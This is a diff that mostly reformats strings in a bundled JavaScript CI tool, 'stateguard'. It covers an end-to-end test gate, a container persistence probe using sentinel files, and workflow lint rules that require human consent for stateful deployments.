@@ -9851,7 +10288,9 @@ const applyCommand = (0,spec/* defineCommand */.NB)({
         const set = (0,common/* loadValidModules */.uh)(opts, ctx);
         const module = (0,common/* pickModule */.ek)(set, opts.module);
         if (opts.expectedPlanHash !== undefined && !/^[0-9a-f]{64}$/.test(opts.expectedPlanHash)) {
-            throw new src_errors/* UserError */.yo(`${ctx.inAction ? "input 'expected-plan-hash'" : '--expected-plan-hash'} must be a plan_hash (64 lowercase hex characters) as printed by stateguard plan --module ${module.name}, got ${JSON.stringify(opts.expectedPlanHash.slice(0, 80))}.`, { input: 'expected-plan-hash' });
+            throw new src_errors/* UserError */.yo(`${ctx.inAction ? "input 'expected-plan-hash'" : '--expected-plan-hash'} must be a plan_hash (64 lowercase ` +
+                `hex characters) as printed by stateguard plan --module ` +
+                `${module.name}, got ${JSON.stringify(opts.expectedPlanHash.slice(0, 80))}.`, { input: 'expected-plan-hash' });
         }
         const o = await applyOneShot({
             ...guardRequest(opts, set, module, ctx),
@@ -9961,8 +10400,10 @@ function decideGate(input) {
             action: 'skip',
             cause: 'missing-variables',
             failInRequiredMode: mode === 'required',
-            reason: `${switchName} is on, but ${missing.length} required variable${missing.length === 1 ? ' is' : 's are'} missing or empty: ` +
-                `${missing.join(', ')}. Set ${missing.length === 1 ? 'it' : 'them'} (e.g. from repository secrets via env:) to run the gate.`,
+            reason: `${switchName} is on, but ` +
+                `${missing.length} required variable${missing.length === 1 ? ' is' : 's are'} missing or empty: ` +
+                `${missing.join(', ')}. Set ${missing.length === 1 ? 'it' : 'them'} (e.g. from repository secrets via env:) ` +
+                `to run the gate.`,
         };
     }
     return { action: 'run' };
@@ -10032,7 +10473,10 @@ const END_OF_ARCHIVE = Buffer.alloc(1024);
  */
 
 
-/** A ustar archive holding exactly one regular file `name` (no directories, so no mode/owner changes to the target dir). */
+/**
+ * A ustar archive holding exactly one regular file `name` (no directories, so no mode/owner
+ * changes to the target dir).
+ */
 function singleFileTar(name, content, mtime) {
     if (name === '' || name.includes('/') || name === '.' || name === '..' || Buffer.byteLength(name) > 100) {
         throw new Error(`sentinel name must be a plain file name of at most 100 bytes, got ${JSON.stringify(name)}`);
@@ -10086,11 +10530,13 @@ function readTar(archive) {
 const SENTINEL_PREFIX = '.stateguard-probe-';
 const persistence_short = (id) => id.slice(0, 12);
 function regressionMessage(volume, at, oldId, newId) {
-    return `DATA-VOLUME REGRESSION: ${volume} at ${at} lost its sentinel across recreate (${persistence_short(oldId)} → ${persistence_short(newId)})`;
+    return (`DATA-VOLUME REGRESSION: ` +
+        `${volume} at ${at} lost its sentinel across recreate (${persistence_short(oldId)} → ${persistence_short(newId)})`);
 }
 function ephemeralPersistedMessage(at, oldId, newId) {
     return (`EPHEMERAL PATH PERSISTED: ${at} is declared ephemeral but persisted: its sentinel survived the recreate ` +
-        `(${persistence_short(oldId)} → ${persistence_short(newId)}), so a volume or bind mount backs it. Declare it under data.volumes, or remove the mount.`);
+        `(${persistence_short(oldId)} → ${persistence_short(newId)}), so a volume or bind mount backs it. Declare it under data.volumes, or ` +
+        `remove the mount.`);
 }
 /** `docker cp` says this when the path does not exist in the container (engine 20.10+ wording, both directions). */
 const PATH_ABSENT = /no such container:path|could not find the file/i;
@@ -10125,7 +10571,7 @@ async function readSentinel(runtime, containerId, dir, name, content) {
 function describeStates(containers) {
     if (containers.length === 0)
         return 'no container exists for it';
-    return `its container${containers.length === 1 ? ' is' : 's are'} ${containers.map((c) => `${persistence_short(c.id)} ${c.state}`).join(', ')}`;
+    return `its container${containers.length === 1 ? ' is' : 's ' + 'are'} ${containers.map((c) => `${persistence_short(c.id)} ${c.state}`).join(', ')}`;
 }
 /**
  * Remove sentinels from a container, best effort. `docker cp` can write but never delete, so this
@@ -10155,7 +10601,8 @@ async function removeSentinels(runtime, containerId, planted) {
     const note = left.length === 0
         ? null
         : `left ${left.length} probe sentinel file${left.length === 1 ? '' : 's'} in container ${persistence_short(containerId)}: ` +
-            `${left.join(', ')}. The image has neither 'rm' nor '/bin/busybox rm' (or the container is not running), and docker cp cannot delete. ` +
+            `${left.join(', ')}. The image has neither 'rm' nor '/bin/busybox rm' (or the container is not running), and ` +
+            `docker cp cannot delete. ` +
             `Each is one small file named ${SENTINEL_PREFIX}*; it is safe to delete by hand.`;
     return { removed, left, note };
 }
@@ -10185,7 +10632,14 @@ async function runPersistenceProbe(mod, deps) {
         ...mod.volumes.map((v) => ({ kind: 'durable', volume: v.volume, path: normalizeContainerPath(v.path) })),
         ...mod.ephemeralPaths.map((p) => ({ kind: 'ephemeral', volume: null, path: normalizeContainerPath(p) })),
     ].map((c) => ({
-        check: { ...c, sentinel: `${SENTINEL_PREFIX}${random(8).toString('hex')}`, written: false, after_recreate: null, ok: false, problem: null },
+        check: {
+            ...c,
+            sentinel: `${SENTINEL_PREFIX}${random(8).toString('hex')}`,
+            written: false,
+            after_recreate: null,
+            ok: false,
+            problem: null,
+        },
         content: Buffer.from(`stateguard persistence probe ${random(16).toString('hex')}\n`),
     }));
     report.checks = planted.map((p) => p.check);
@@ -10199,16 +10653,22 @@ async function runPersistenceProbe(mod, deps) {
     if (running.length !== 1) {
         const where = `service ${mod.compose.service} of compose project ${mod.compose.project}`;
         if (running.length > 1) {
-            return fail(`${running.length} containers of ${where} are running (${running.map((c) => persistence_short(c.id)).join(', ')}); the probe needs exactly one (scaled services are not supported).`);
+            return fail(`${running.length} containers of ` +
+                `${where} are running ` +
+                `(${running.map((c) => persistence_short(c.id)).join(', ')}); the probe needs exactly one (scaled services are not ` +
+                `supported).`);
         }
         const oneShot = mod.expectedState === 'exited-success'
-            ? ` Module ${mod.name} is a one-shot (expected_state: exited-success): probe the long-running module that owns the data instead.`
-            : ` Start it first (e.g. compose up -d ${mod.compose.service}); the probe never passes without a container to prove it on.`;
+            ? ` Module ${mod.name} is a one-shot (expected_state: exited-success): probe the long-running module that ` +
+                `owns the data instead.`
+            : ` Start it first (e.g. compose up -d ` +
+                `${mod.compose.service}); the probe never passes without a container to prove it on.`;
         return fail(`no running container for module ${mod.name} (${where}): ${describeStates(before)}.${oneShot}`);
     }
     const old = running[0];
     report.old_container = old.id;
-    log(`persistence probe: module ${mod.name}, container ${persistence_short(old.id)}, ${planted.length} path${planted.length === 1 ? '' : 's'}`);
+    log(`persistence probe: module ` +
+        `${mod.name}, container ${persistence_short(old.id)}, ${planted.length} path${planted.length === 1 ? '' : 's'}`);
     // 2. Plant and read back.
     const written = [];
     for (const p of planted) {
@@ -10217,7 +10677,9 @@ async function runPersistenceProbe(mod, deps) {
             await runtime.copyTo(old.id, check.path, singleFileTar(check.sentinel, p.content, deps.now()));
         }
         catch (err) {
-            check.problem = `could not write a sentinel into ${check.path} of container ${persistence_short(old.id)} (does the directory exist there?): ${(0,src_errors/* errorMessage */.gJ)(err)}`;
+            check.problem =
+                `could not write a sentinel into ` +
+                    `${check.path} of container ${persistence_short(old.id)} (does the directory exist there?): ${(0,src_errors/* errorMessage */.gJ)(err)}`;
             report.problems.push(check.problem);
             continue;
         }
@@ -10232,7 +10694,10 @@ async function runPersistenceProbe(mod, deps) {
             continue;
         }
         if (state !== 'present') {
-            check.problem = `the sentinel written into ${check.path} of container ${persistence_short(old.id)} reads back ${state}: the write did not take effect, so this path proves nothing`;
+            check.problem =
+                `the sentinel written into ` +
+                    `${check.path} of container ` +
+                    `${persistence_short(old.id)} reads back ${state}: the write did not take effect, so this path proves nothing`;
             report.problems.push(check.problem);
             continue;
         }
@@ -10262,11 +10727,13 @@ async function runPersistenceProbe(mod, deps) {
     if (fresh.length === 0) {
         const still = after.some((c) => c.id === old.id);
         return failBeforeVerify(still
-            ? `the container ID did not change across the recreate (${persistence_short(old.id)}): the recreate did not happen, so nothing was proven.`
+            ? `the container ID did not change across the recreate ` +
+                `(${persistence_short(old.id)}): the recreate did not happen, so nothing was proven.`
             : `no container of service ${mod.compose.service} exists after the recreate.`);
     }
     if (fresh.length > 1) {
-        return failBeforeVerify(`${fresh.length} new containers of service ${mod.compose.service} appeared after the recreate; the probe needs exactly one.`);
+        return failBeforeVerify(`${fresh.length} new containers of service ` +
+            `${mod.compose.service} appeared after the recreate; the probe needs exactly one.`);
     }
     const next = fresh[0];
     report.new_container = next.id;
@@ -10320,10 +10787,14 @@ async function waitReady(runtime, id, timeoutMs, sleep) {
         if (c.state === 'running' && (c.health === null || c.health === 'healthy'))
             return null;
         if (c.state === 'exited' || c.state === 'dead' || c.health === 'unhealthy') {
-            return `the recreated container ${persistence_short(id)} did not come back: it is ${c.state}${c.health ? ` (${c.health})` : ''}${c.exitCode !== null && c.state !== 'running' ? `, exit code ${c.exitCode}` : ''}.`;
+            return (`the recreated container ` +
+                `${persistence_short(id)} did not come back: it is ` +
+                `${c.state}${c.health ? ` (${c.health})` : ''}${c.exitCode !== null && c.state !== 'running' ? `, exit code ` + `${c.exitCode}` : ''}.`);
         }
         if (Date.now() >= deadline) {
-            return `the recreated container ${persistence_short(id)} is not ready after ${Math.round(timeoutMs / 1000)} s (${c.state}${c.health ? `, ${c.health}` : ''}).`;
+            return (`the recreated container ` +
+                `${persistence_short(id)} is not ready after ` +
+                `${Math.round(timeoutMs / 1000)} s (${c.state}${c.health ? `, ${c.health}` : ''}).`);
         }
         await sleep(1000);
     }
@@ -10364,12 +10835,45 @@ var runtime_process = __nccwpck_require__(21);
 const INPUTS = [
     spec/* ROOT_INPUT */.kQ,
     spec/* MODULES_INPUT */.zD,
-    { name: 'switch', kind: 'string', default: 'STAGING_E2E', description: 'Name of the environment variable that switches the gate on (1/true); unset, empty, 0 or false skip loudly; any other value is an error.' },
-    { name: 'require', kind: 'list', description: 'Environment variables that must be set and non-empty (repeatable; one per line in the action). Only names are ever printed.' },
-    { name: 'mode', kind: 'choice', choices: ['optional', 'required'], default: 'optional', description: 'optional: skip loudly when off or unconfigured; required: fail instead.' },
-    { name: 'persistence-probe', kind: 'string', description: 'Module whose data volumes are probed across a container recreate (run before the command).' },
-    { name: 'run', kind: 'string', actionOnly: true, description: "The e2e command, split into arguments like a shell splits words (quotes, backslashes) but run without a shell; write `bash -c '…'` for one." },
-    { name: 'command', kind: 'list', rest: true, cliOnly: true, description: 'The e2e command and its arguments, after --.' },
+    {
+        name: 'switch',
+        kind: 'string',
+        default: 'STAGING_E2E',
+        description: 'Name of the environment variable that switches the gate on (1/true); unset, empty, 0 or false skip loudly; ' +
+            'any other value is an error.',
+    },
+    {
+        name: 'require',
+        kind: 'list',
+        description: 'Environment variables that must be set and non-empty (repeatable; one per line in the action). Only names are ' +
+            'ever printed.',
+    },
+    {
+        name: 'mode',
+        kind: 'choice',
+        choices: ['optional', 'required'],
+        default: 'optional',
+        description: 'optional: skip loudly when off or unconfigured; required: fail instead.',
+    },
+    {
+        name: 'persistence-probe',
+        kind: 'string',
+        description: 'Module whose data volumes are probed across a container recreate (run before the command).',
+    },
+    {
+        name: 'run',
+        kind: 'string',
+        actionOnly: true,
+        description: 'The e2e command, split into arguments like a shell splits words (quotes, backslashes) but run without a ' +
+            "shell; write `bash -c '…'` for one.",
+    },
+    {
+        name: 'command',
+        kind: 'list',
+        rest: true,
+        cliOnly: true,
+        description: 'The e2e command and its arguments, after --.',
+    },
     spec/* JSON_INPUT */.sz,
 ];
 /** Values that are protocol words, not secrets: masking them would corrupt the JSON document. */
@@ -10392,14 +10896,21 @@ const e2eGateCommand = (0,spec/* defineCommand */.NB)({
             const r = (0,run_command/* errorResult */.W)(e2eGateCommand, err);
             r.outputs.status = 'error';
             r.outputs.missing ??= '[]';
-            r.json = { status: 'error', missing: [], reason: r.json.error, probe: null, ...r.json };
+            r.json = {
+                status: 'error',
+                missing: [],
+                reason: r.json.error,
+                probe: null,
+                ...r.json,
+            };
             return r;
         }
     },
 });
 function validateName(name, input) {
     if (!ENV_NAME.test(name)) {
-        throw new src_errors/* UserError */.yo(`--${input} ${JSON.stringify(name)} is not an environment variable name: use letters, digits and _, not starting with a digit (e.g. STAGING_BASE_URL).`, { input });
+        throw new src_errors/* UserError */.yo(`--${input} ${JSON.stringify(name)} is not an environment variable name: use letters, digits and _, not ` +
+            `starting with a digit (e.g. STAGING_BASE_URL).`, { input });
     }
 }
 function parseCommand(opts) {
@@ -10443,7 +10954,8 @@ function resolveProgram(program, ctx) {
         : ['cd', 'export', 'source', '.', 'set', 'exec'].includes(program)
             ? ` '${program}' is a shell builtin: write the shell yourself, e.g. bash -c '…'.`
             : '';
-    throw new src_errors/* UserError */.yo(`the e2e command's program ${JSON.stringify(program)} was not found${program.includes('/') ? ' or is not executable' : ' on PATH'}.${hint}`, { input: 'command' });
+    throw new src_errors/* UserError */.yo(`the e2e command's program ` +
+        `${JSON.stringify(program)} was not found${program.includes('/') ? ' or is not executable' : ' on PATH'}.${hint}`, { input: 'command' });
 }
 async function gate(opts, ctx) {
     // 1. Validate everything first.
@@ -10457,11 +10969,14 @@ async function gate(opts, ctx) {
     if (opts.persistenceProbe) {
         probeModule = (0,common/* pickModule */.ek)((0,common/* loadValidModules */.uh)(opts, ctx), opts.persistenceProbe, 'persistence-probe');
         if (probeModule.volumes.length === 0 && probeModule.ephemeralPaths.length === 0) {
-            throw new src_errors/* UserError */.yo(`--persistence-probe ${probeModule.name}: the module declares no data.volumes and no data.ephemeral_paths, so there is nothing to probe. Declare them in ${probeModule.file}.`, { input: 'persistence-probe' });
+            throw new src_errors/* UserError */.yo(`--persistence-probe ` +
+                `${probeModule.name}: the module declares no data.volumes and no data.ephemeral_paths, so there is nothing ` +
+                `to probe. Declare them in ${probeModule.file}.`, { input: 'persistence-probe' });
         }
     }
     if (argv.length === 0 && !probeModule) {
-        throw new src_errors/* UserError */.yo('nothing to run: give the e2e command after -- (CLI) or in input \'run\' (action), and/or --persistence-probe MODULE.', { input: 'command' });
+        throw new src_errors/* UserError */.yo("nothing to run: give the e2e command after -- (CLI) or in input 'run' (action), and/or --persistence-probe " +
+            'MODULE.', { input: 'command' });
     }
     // Every value read from here on is a secret to the output layers.
     for (const n of required) {
@@ -10477,8 +10992,15 @@ async function gate(opts, ctx) {
     const decision = decideGate({ switchName: opts.switch, switchState, missing, mode });
     if (decision.action === 'refuse') {
         return finish({
-            status: 'error', exitCode: src_errors/* ExitCode */.yU.couldNotRun, reason: decision.reason, missing, failureReason: 'invalid-input', probe: null, command: null,
-            level: 'error', heading: 'could not decide',
+            status: 'error',
+            exitCode: src_errors/* ExitCode */.yU.couldNotRun,
+            reason: decision.reason,
+            missing,
+            failureReason: 'invalid-input',
+            probe: null,
+            command: null,
+            level: 'error',
+            heading: 'could not decide',
         });
     }
     if (decision.action === 'skip') {
@@ -10487,7 +11009,8 @@ async function gate(opts, ctx) {
         return finish({
             status: 'skipped',
             exitCode: fails ? src_errors/* ExitCode */.yU.no : src_errors/* ExitCode */.yU.ok,
-            reason: `the e2e gate did not run: ${decision.reason}${also}${fails ? ' mode is required, so a skip fails the gate.' : ''}`,
+            reason: `the e2e gate did not run: ` +
+                `${decision.reason}${also}${fails ? ' mode is required, so a skip fails the gate.' : ''}`,
             missing,
             failureReason: fails ? 'e2e-skipped' : undefined,
             probe: null,
@@ -10510,25 +11033,58 @@ async function gate(opts, ctx) {
         });
         if (!probe.passed) {
             return finish({
-                status: 'failed', exitCode: src_errors/* ExitCode */.yU.no,
-                reason: `the persistence probe of module ${probeModule.name} failed${argv.length ? '; the e2e command was not run' : ''}: ${probe.problems[0]}`,
-                missing, failureReason: 'probe-failed', probe, command: null, level: 'error', heading: 'failed',
+                status: 'failed',
+                exitCode: src_errors/* ExitCode */.yU.no,
+                reason: `the persistence probe of module ` +
+                    `${probeModule.name} failed${argv.length ? '; the e2e command was not run' : ''}: ${probe.problems[0]}`,
+                missing,
+                failureReason: 'probe-failed',
+                probe,
+                command: null,
+                level: 'error',
+                heading: 'failed',
             });
         }
     }
     if (argv.length === 0) {
         return finish({
-            status: 'passed', exitCode: src_errors/* ExitCode */.yU.ok, reason: `the persistence probe of module ${probeModule.name} passed (no e2e command was given).`,
-            missing, probe, command: null, level: null, heading: 'passed',
+            status: 'passed',
+            exitCode: src_errors/* ExitCode */.yU.ok,
+            reason: `the persistence probe of module ${probeModule.name} passed (no e2e command was given).`,
+            missing,
+            probe,
+            command: null,
+            level: null,
+            heading: 'passed',
         });
     }
     const [program, ...args] = argv;
-    ctx.log.info(`e2e gate: ${opts.switch} is on and every required variable is set; running ${program} with ${args.length} argument${args.length === 1 ? '' : 's'}.`);
+    ctx.log.info(`e2e gate: ${opts.switch} is on and every required variable is set; running ` +
+        `${program} with ${args.length} argument${args.length === 1 ? '' : 's'}.`);
     const exitCode = await runStreaming(program, args, ctx);
     const command = { program, arguments: args.length, exit_code: exitCode };
     return exitCode === 0
-        ? finish({ status: 'passed', exitCode: src_errors/* ExitCode */.yU.ok, reason: `the e2e command (${program}) exited 0${probe ? ' after the persistence probe passed' : ''}.`, missing, probe, command, level: null, heading: 'passed' })
-        : finish({ status: 'failed', exitCode: src_errors/* ExitCode */.yU.no, reason: `the e2e command (${program}) exited ${exitCode}.`, missing, failureReason: 'e2e-failed', probe, command, level: 'error', heading: 'failed' });
+        ? finish({
+            status: 'passed',
+            exitCode: src_errors/* ExitCode */.yU.ok,
+            reason: `the e2e command (${program}) exited 0${probe ? ' after the persistence probe passed' : ''}.`,
+            missing,
+            probe,
+            command,
+            level: null,
+            heading: 'passed',
+        })
+        : finish({
+            status: 'failed',
+            exitCode: src_errors/* ExitCode */.yU.no,
+            reason: `the e2e command (${program}) exited ${exitCode}.`,
+            missing,
+            failureReason: 'e2e-failed',
+            probe,
+            command,
+            level: 'error',
+            heading: 'failed',
+        });
 }
 /** Run the command with its output streamed live, line by line (so masking sees whole lines). */
 async function runStreaming(program, args, ctx) {
@@ -10541,7 +11097,12 @@ async function runStreaming(program, args, ctx) {
             done();
         },
     });
-    const r = await (0,runtime_process/* spawnProcess */.N)(program, args, { cwd: ctx.cwd, env: { ...ctx.env }, stdoutSink: sink, onStderr: (c) => stderr.push(c) });
+    const r = await (0,runtime_process/* spawnProcess */.N)(program, args, {
+        cwd: ctx.cwd,
+        env: { ...ctx.env },
+        stdoutSink: sink,
+        onStderr: (c) => stderr.push(c),
+    });
     stdout.push(decoder.end());
     stdout.flush();
     stderr.flush();
@@ -10587,7 +11148,14 @@ function finish(f) {
         summary += '\n' + probeSummary(f.probe);
     return {
         exitCode: f.exitCode,
-        json: { status: f.status, missing: f.missing, reason: f.reason, probe: f.probe, command: f.command, failure_reason: f.failureReason ?? '' },
+        json: {
+            status: f.status,
+            missing: f.missing,
+            reason: f.reason,
+            probe: f.probe,
+            command: f.command,
+            failure_reason: f.failureReason ?? '',
+        },
         text: lines.join('\n'),
         outputs: { status: f.status, missing: JSON.stringify(f.missing), 'failure-reason': f.failureReason ?? '' },
         summary,
@@ -10597,10 +11165,12 @@ function finish(f) {
 }
 function probeLines(p) {
     const ids = `${p.old_container?.slice(0, 12) ?? '-'} → ${p.new_container?.slice(0, 12) ?? '-'}`;
-    const out = [`persistence probe of ${p.module} (${p.project}/${p.service}, ${ids}): ${p.passed ? 'passed' : 'FAILED'}`];
+    const out = [
+        `persistence probe of ${p.module} (${p.project}/${p.service}, ${ids}): ${p.passed ? 'passed' : 'FAILED'}`,
+    ];
     for (const c of p.checks) {
         const want = c.kind === 'durable' ? 'must survive' : 'must not survive';
-        out.push(`  ${c.ok ? 'ok  ' : 'FAIL'} ${c.kind.padEnd(9)} ${c.path} (${want}): ${c.after_recreate ?? (c.written ? 'not checked' : 'not written')}`);
+        out.push(`  ${c.ok ? 'ok  ' : 'FAIL'} ${c.kind.padEnd(9)} ${c.path} (${want}): ${c.after_recreate ?? (c.written ? 'not ' + 'checked' : 'not written')}`);
     }
     for (const problem of p.problems)
         out.push(`  ${problem}`);
@@ -10609,7 +11179,8 @@ function probeLines(p) {
     return out;
 }
 function probeSummary(p) {
-    const rows = p.checks.map((c) => `| ${(0,common/* cell */.Hn)(c.path)} | ${c.kind}${c.volume ? ` (${(0,common/* cell */.Hn)(c.volume)})` : ''} | ${c.after_recreate ?? '—'} | ${c.ok ? 'ok' : '**fail**'} |`);
+    const rows = p.checks.map((c) => `| ${(0,common/* cell */.Hn)(c.path)} | ${c.kind}${c.volume ? ` (${(0,common/* cell */.Hn)(c.volume)})` : ''} | ${c.after_recreate ?? '—'} | ` +
+        `${c.ok ? 'ok' : '**fail**'} |`);
     let md = `**Persistence probe** of ${(0,common/* code */.aY)(p.module)}: ${p.passed ? 'passed' : '**failed**'} ` +
         `(container ${p.old_container?.slice(0, 12) ?? '—'} → ${p.new_container?.slice(0, 12) ?? '—'})\n\n` +
         `| path | kind | after recreate | result |\n|---|---|---|---|\n${rows.join('\n')}\n`;
@@ -10637,8 +11208,25 @@ var ast = __nccwpck_require__(2049);
  */
 
 
-const CONTEXTS = ['github', 'env', 'inputs', 'vars', 'secrets', 'steps', 'job', 'jobs', 'runner', 'strategy', 'matrix', 'needs'];
-const STATUS_FUNCTIONS = ['success', 'failure', 'always', 'cancelled', 'hashFiles'].map((name) => ({ name, minArgs: 0, maxArgs: 255 }));
+const CONTEXTS = [
+    'github',
+    'env',
+    'inputs',
+    'vars',
+    'secrets',
+    'steps',
+    'job',
+    'jobs',
+    'runner',
+    'strategy',
+    'matrix',
+    'needs',
+];
+const STATUS_FUNCTIONS = ['success', 'failure', 'always', 'cancelled', 'hashFiles'].map((name) => ({
+    name,
+    minArgs: 0,
+    maxArgs: 255,
+}));
 /** `${{ … }}` (the body may span lines in a block scalar). */
 const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
 const cache = new Map();
@@ -10761,7 +11349,11 @@ function inputName(a) {
     if (a.root === 'inputs' && a.keys.length === 1 && a.keys[0])
         return { name: a.keys[0].toLowerCase(), dispatchOnly: false };
     const [k0, k1, k2] = a.keys;
-    if (a.root === 'github' && a.keys.length === 3 && k0?.toLowerCase() === 'event' && k1?.toLowerCase() === 'inputs' && k2)
+    if (a.root === 'github' &&
+        a.keys.length === 3 &&
+        k0?.toLowerCase() === 'event' &&
+        k1?.toLowerCase() === 'inputs' &&
+        k2)
         return { name: k2.toLowerCase(), dispatchOnly: true };
     return undefined;
 }
@@ -10776,7 +11368,9 @@ function envName(a) {
  */
 function envTaint(env, outer) {
     if (typeof env === 'string') {
-        return [...env.matchAll(EXPRESSION)].some((m) => untrustedReads(m[1], outer).length > 0) ? new Set([...outer, '*']) : outer;
+        return [...env.matchAll(EXPRESSION)].some((m) => untrustedReads(m[1], outer).length > 0)
+            ? new Set([...outer, '*'])
+            : outer;
     }
     if (typeof env !== 'object' || env === null || Array.isArray(env))
         return outer;
@@ -10799,125 +11393,191 @@ const RULES = [
         name: 'workflow-schema',
         severity: 'error',
         summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
-        why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse the file or evaluate something other than what was written. No other rule can be trusted on a file the runner reads differently.",
+        why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse " +
+            'the file or evaluate something other than what was written. No other rule can be trusted on a file the runner ' +
+            'reads differently.',
         fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
-        coveredBy: "actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does not validate the schema.",
+        coveredBy: 'actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does ' +
+            'not validate the schema.',
     },
     {
         id: 'SG001',
         name: 'workflow-yaml',
         severity: 'error',
-        summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one document, not a mapping, or aliases that expand too much.',
+        summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one ' +
+            'document, not a mapping, or aliases that expand too much.',
         why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
-        fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use anchors/aliases sparingly.',
+        fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use ' +
+            'anchors/aliases sparingly.',
         coveredBy: "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
     },
     {
         id: 'SG002',
         name: 'lint-suppression',
         severity: 'error',
-        summary: 'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
-        why: 'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still reported.',
-        fix: 'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line above it; several rules: `ignore SG106, SG201 -- reason`.',
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or ' +
+            'one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
+        why: 'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge ' +
+            'it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still ' +
+            'reported.',
+        fix: 'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line ' +
+            'above it; several rules: `ignore SG106, SG201 -- reason`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG101',
         name: 'apply-automatic-trigger',
         severity: 'error',
-        summary: "A stateguard command that changes or stops stateful modules (`apply`, `stateful-apply`, `restore`, `recover`, `upgrade`, `snapshot`, or a command given by an expression or variable), as an action step or as a CLI call in `run:`, is reachable from a trigger other than `workflow_dispatch` (a `snapshot` may also run on `schedule`: scheduled backups are routine; it may not run on a push or a pull request).",
-        why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` counts as automatic because the caller can be triggered by anything.',
-        fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the pull-request workflow.',
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'A stateguard command that changes or stops stateful modules (`apply`, `stateful-apply`, `restore`, `recover`, ' +
+            '`upgrade`, `snapshot`, or a command given by an expression or variable), as an action step or as a CLI call ' +
+            'in `run:`, is reachable from a trigger other than `workflow_dispatch` (a `snapshot` may also run on ' +
+            '`schedule`: scheduled backups are routine; it may not run on a push or a pull request).',
+        why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a ' +
+            'schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified ' +
+            'backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` ' +
+            'counts as automatic because the caller can be triggered by anything.',
+        fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the ' +
+            'pull-request workflow.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG102',
         name: 'apply-input-hardcoded',
         severity: 'error',
-        summary: "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or `--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from a workflow input, directly or through `env:`.",
-        why: 'These three values are the operator\'s explicit consent, the backup they vouch for and the exact confirm token. Written into the workflow, they consent once for every future run.',
-        fix: "Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, `backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or `github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm \"$CONFIRM\"`; `--allow-stateful` alone means true, so write `--allow-stateful=\"$ALLOW\"`.",
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or " +
+            '`--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from ' +
+            'a workflow input, directly or through `env:`.',
+        why: "These three values are the operator's explicit consent, the backup they vouch for and the exact confirm " +
+            'token. Written into the workflow, they consent once for every future run.',
+        fix: 'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, ' +
+            '`backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or ' +
+            '`github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm "$CONFIRM"`; ' +
+            '`--allow-stateful` alone means true, so write `--allow-stateful="$ALLOW"`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG103',
         name: 'dispatch-input-unsafe',
         severity: 'error',
-        summary: "A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.",
-        why: "A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it feeds, and a default equal to the confirm token confirms every run.",
-        fix: "Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with `required: true` and no `default`, whatever they are called.",
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
